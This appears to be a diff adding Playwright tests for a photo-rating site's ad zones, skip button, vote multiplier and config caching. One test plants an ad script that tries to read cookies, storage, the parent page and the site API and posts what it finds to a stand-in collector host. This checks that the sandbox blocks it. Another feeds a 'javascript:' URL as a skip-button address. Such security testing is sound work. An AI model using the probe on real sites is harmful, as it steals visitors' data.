@@ -1,0 +1,270 @@
+import type { Page } from '@playwright/test'
+import { expect, test } from './fixtures.ts'
+import { rateScreen } from './rate-screen.ts'
+import type { Site } from './running-site.ts'
+
+const setAd = (site: Site, adCode: string, isSandboxed = false) =>
+  site.query(
+    `INSERT INTO ad_zones (zone_id, zone_name, ad_code, is_active, is_sandboxed) VALUES ('zone1', 'Ad Zone 1', $1, true, $2)
+     ON CONFLICT (zone_id) DO UPDATE SET (ad_code, is_sandboxed) = ROW (excluded.ad_code, excluded.is_sandboxed)`,
+    [adCode, isSandboxed],
+  )
+const setSkipButton = (site: Site, buttonText: string, buttonUrl: string) =>
+  site.query(
+    `INSERT INTO skip_button (zone_name, button_text, button_url, is_active) VALUES ('Skip Button', $1, $2, true)`,
+    [buttonText, buttonUrl],
+  )
+
+const adOn = (page: Page) => page.getByRole('complementary', { name: 'Advertisement' })
+const linkTo = (page: Page, path: string) => page.getByRole('navigation', { name: 'Main' }).locator(`[href="${path}"]`)
+
+/** Answers for the script of an ad network, `delay` calls of other scripts later than the page might like. */
+const serveScript = (page: Page, name: string, code: string) =>
+  page.route(`https://ads.example/${name}`, (route) =>
+    route.fulfill({ contentType: 'text/javascript', headers: { 'access-control-allow-origin': '*' }, body: code }),
+  )
+
+/** What the scripts of an ad noted in the page. */
+const noted = (page: Page) => page.evaluate(() => document.documentElement.dataset.noted ?? '')
+const note = (what: string) =>
+  `document.documentElement.dataset.noted = (document.documentElement.dataset.noted ?? '') + '${what} ';`
+
+test('without ad code there is no zone', async ({ page, visitor }) => {
+  await (await visitor()).uploadPhotos(1)
+  const asked = page.waitForResponse('**/api/ad-config/zone1')
+  await page.goto('/')
+  await rateScreen(page).shown(1)
+  expect(await (await asked).json()).toEqual({ adCode: '', isSandboxed: false })
+  await expect(adOn(page)).toHaveCount(0)
+})
+
+test('the scripts of an ad run in their order, inline and from elsewhere', async ({ page, site, visitor }) => {
+  await (await visitor()).uploadPhotos(1)
+  await serveScript(page, 'first.js', note('first'))
+  await serveScript(page, 'second.js', note('second'))
+  await setAd(
+    site,
+    `<p>Buy this</p><script>${note('inline')}</script><script src="https://ads.example/first.js"></script>
+     <script>${note('between')}</script><script async src="https://ads.example/second.js"></script>
+     <script type="application/json">{"no": "code"}</script><script>${note('last')}</script>`,
+  )
+  await page.goto('/')
+  await rateScreen(page).shown(1)
+  await expect(adOn(page)).toContainText('Buy this')
+  await expect.poll(() => noted(page)).toBe('inline first between second last ')
+})
+
+test('an ad that writes into the document writes into its zone', async ({ page, site, visitor }) => {
+  await (await visitor()).uploadPhotos(1)
+  await serveScript(page, 'written.js', note('written'))
+  await setAd(
+    site,
+    `<script>document.write('<b>Old ad</b><script src="https://ads.example/written.js"></' + 'script>')</script>`,
+  )
+  await page.goto('/')
+  await rateScreen(page).shown(1)
+  await expect(adOn(page).getByText('Old ad')).toBeVisible()
+  await expect.poll(() => noted(page)).toBe('written ')
+})
+
+test('an ad script that does not load stops nothing', async ({ page, site, visitor, problems }) => {
+  problems.expect(/ERR_FAILED https:\/\/ads\.example/)
+  await (await visitor()).uploadPhotos(2)
+  await page.route('https://ads.example/**', (route) => route.abort())
+  await setAd(site, `<p>Ad</p><script src="https://ads.example/gone.js"></script><script>${note('after')}</script>`)
+  await page.goto('/')
+  const rate = rateScreen(page)
+  await rate.shown(1)
+  await expect.poll(() => noted(page)).toBe('after ')
+  await rate.hot.click()
+  await rate.shown(2)
+})
+
+test('the zone is at least 50 px high and below the skip button', async ({ page, site, visitor }) => {
+  await (await visitor()).uploadPhotos(1)
+  await setAd(site, '<i>.</i>')
+  await page.goto('/')
+  await rateScreen(page).shown(1)
+  await expect.poll(async () => (await adOn(page).boundingBox())?.height).toBe(50)
+  await setAd(site, '<div style="height: 90px">.</div>')
+  await page.reload()
+  await expect.poll(async () => (await adOn(page).boundingBox())?.height).toBe(90)
+  // Nothing that is fixed on the screen covers it.
+  await adOn(page).scrollIntoViewIfNeeded()
+  await adOn(page)
+    .getByText('.')
+    .click({ position: { x: 1, y: 88 } })
+})
+
+test('no ad runs in the browser of an operator', async ({ page, site, visitor }) => {
+  await (await visitor()).uploadPhotos(1)
+  for (const isSandboxed of [false, true]) {
+    await setAd(site, `<p>Buy this</p><script>${note('ran')}</script>`, isSandboxed)
+    await page.addInitScript(() => localStorage.setItem('adminToken', 'secret'))
+    await page.goto('/')
+    await expect(adOn(page)).toContainText('does not run in a browser that is logged in as operator')
+    await expect(adOn(page)).not.toContainText('Buy this')
+    await expect(page.locator('iframe')).toHaveCount(0)
+    expect(await noted(page)).toBe('')
+  }
+})
+
+test('a sandboxed ad runs in its frame and reaches nothing of the site', async ({ page, site, visitor, problems }) => {
+  problems.expect(/./)
+  await (await visitor()).uploadPhotos(1)
+  const collected = Promise.withResolvers<Record<string, string>>()
+  await page.route('https://collector.example/**', async (route) => {
+    if (route.request().method() === 'POST') collected.resolve(route.request().postDataJSON())
+    await route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: '' })
+  })
+  await setAd(
+    site,
+    `<p>Framed</p><script>
+      const found = { origin: self.origin }
+      const attempt = async (name, act) => {
+        try { found[name] = 'reached ' + (await act()) } catch (error) { found[name] = error.name }
+      }
+      ;(async () => {
+        await attempt('storage', () => localStorage.length)
+        await attempt('cookie', () => document.cookie)
+        await attempt('parent', () => parent.document.title)
+        await attempt('top', () => top.localStorage.length)
+        await attempt('channel', () => { new BroadcastChannel('x'); throw new TypeError('of its own origin') })
+        await attempt('api', async () => (await fetch('${site.url}/api/ad-config/zone1')).text())
+        await attempt('navigation', () => { top.location.href = 'https://elsewhere.example/' })
+        await fetch('https://collector.example/', { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) })
+      })()
+    </script>`,
+    true,
+  )
+  await page.goto('/')
+  await rateScreen(page).shown(1)
+  await adOn(page).scrollIntoViewIfNeeded()
+  await expect(adOn(page).locator('iframe').contentFrame().getByText('Framed')).toBeVisible()
+  const found = await collected.promise
+  expect(found.origin).toBe('null')
+  for (const name of ['storage', 'cookie', 'parent', 'top', 'api']) expect(found[name], name).toMatch(/Error$/)
+  await expect(page).toHaveURL('/')
+})
+
+test('the takedown form is opened anew when an ad has run before', async ({ page, site, visitor }) => {
+  await (await visitor()).uploadPhotos(1)
+  await setAd(site, `<p>Buy this</p><script>${note('ran')}</script>`)
+  const frames: string[] = []
+  page.on('request', (request) => request.url().includes('/ad-frame') && frames.push(request.url()))
+  await page.goto('/')
+  await expect.poll(() => noted(page)).toBe('ran ')
+  await linkTo(page, '/dmca').click()
+  await expect(page.getByRole('heading', { level: 1, name: 'DMCA Takedown' })).toBeVisible()
+  await expect(page).toHaveURL('/dmca')
+  expect(await noted(page)).toBe('')
+  await expect(adOn(page)).toHaveCount(0)
+
+  // And back: the strict document of the form gives way to one that may show the ad.
+  await linkTo(page, '/').click()
+  await expect(adOn(page)).toContainText('Buy this')
+  await expect.poll(() => noted(page)).toBe('ran ')
+  expect(frames).toEqual([])
+})
+
+test.describe('the skip button', () => {
+  test('says what was set and leads there, by click and by key', async ({ page, site, visitor }) => {
+    await (await visitor()).uploadPhotos(2)
+    await page.route('https://partner.example/**', (route) =>
+      route.fulfill({ contentType: 'text/html', body: 'Partner' }),
+    )
+    await setSkipButton(site, 'More like this', 'https://partner.example/more')
+    const button = page.getByRole('button', { name: 'More like this' })
+    for (const press of [() => button.click(), () => page.keyboard.press('s')]) {
+      await page.goto('/')
+      await rateScreen(page).shown(1)
+      await expect(button).toBeVisible()
+      await press()
+      await expect(page).toHaveURL('https://partner.example/more')
+    }
+  })
+
+  for (const url of ['', 'javascript:alert(1)', '/upload'])
+    test(`skips by itself with the address "${url}"`, async ({ page, site, visitor }) => {
+      await (await visitor()).uploadPhotos(2)
+      await setSkipButton(site, 'Next one', url)
+      await page.goto('/')
+      const rate = rateScreen(page)
+      await rate.shown(1)
+      await page.getByRole('button', { name: 'Next one' }).click()
+      await rate.shown(2)
+      await expect(page).toHaveURL('/')
+    })
+})
+
+test('shown totals are multiplied and rounded, and nothing else', async ({ page, site, visitor }) => {
+  const items = await (await visitor()).uploadPhotos(2)
+  for (const isHot of [true, true, false]) {
+    const voter = await visitor()
+    for (const { id } of items) await voter.vote(id, isHot)
+  }
+  await site.query('INSERT INTO vote_multiplier (is_enabled, multiplier) VALUES (true, 2.5)')
+  await page.goto('/')
+  const rate = rateScreen(page)
+  await rate.shown(1)
+  await expect(rate.stats).toContainText('8 votes')
+  await expect(rate.stats).toContainText('67% hot')
+  await rate.hot.click()
+  await rate.shown(2)
+  await expect(rate.main).toContainText(/75% hot.*25% not.*10 votes/)
+  await expect(rate.main.locator('[aria-live=polite]')).toContainText('10 votes')
+  await site.query('UPDATE vote_multiplier SET is_enabled = false')
+  await page.reload()
+  await rate.shown(1)
+  await expect(rate.stats).toContainText('3 votes')
+})
+
+const MINUTE = 60_000
+const CONFIGS = { '/api/ad-config/zone1': 5, '/api/ad-config/skip-button': 5, '/api/vote-multiplier-config': 30 }
+
+test('settings are kept for 5 and 30 minutes', async ({ page, visitor }) => {
+  await (await visitor()).uploadPhotos(1)
+  const asked: string[] = []
+  page.on('request', (request) => {
+    const path = new URL(request.url()).pathname
+    if (path in CONFIGS) asked.push(path)
+  })
+  await page.clock.install()
+  await page.goto('/')
+  await expect.poll(() => [...asked].sort()).toEqual(Object.keys(CONFIGS).sort())
+  const comeBackAfter = async (ms: number) => {
+    asked.length = 0
+    await linkTo(page, '/upload').click()
+    await expect(page.getByRole('heading', { name: 'Upload Media' })).toBeVisible()
+    await page.clock.fastForward(ms)
+    await linkTo(page, '/').click()
+    await expect(rateScreen(page).hot).toBeVisible()
+  }
+  await comeBackAfter(4.5 * MINUTE)
+  expect(asked).toEqual([])
+  await comeBackAfter(MINUTE)
+  await expect.poll(() => [...asked].sort()).toEqual(['/api/ad-config/skip-button', '/api/ad-config/zone1'])
+  await comeBackAfter(24 * MINUTE)
+  expect(asked).not.toContain('/api/vote-multiplier-config')
+  await comeBackAfter(MINUTE)
+  await expect.poll(() => asked).toContain('/api/vote-multiplier-config')
+})
+
+test('failing settings are asked for once more, and the page goes on without', async ({ page, visitor, problems }) => {
+  problems.expect(/^500 .*-config/)
+  await (await visitor()).uploadPhotos(2)
+  const asked: string[] = []
+  await page.route(/-config/, (route) => {
+    asked.push(new URL(route.request().url()).pathname)
+    return route.fulfill({ status: 500, body: 'broken' })
+  })
+  await page.goto('/')
+  const rate = rateScreen(page)
+  await rate.shown(1)
+  const count = (path: string) => asked.filter((one) => one === path).length
+  for (const path of ['/api/ad-config/zone1', '/api/ad-config/skip-button'])
+    await expect.poll(() => count(path), path).toBe(2)
+  await rate.skip.click()
+  await rate.shown(2)
+  expect(count('/api/ad-config/zone1')).toBe(2)
+})
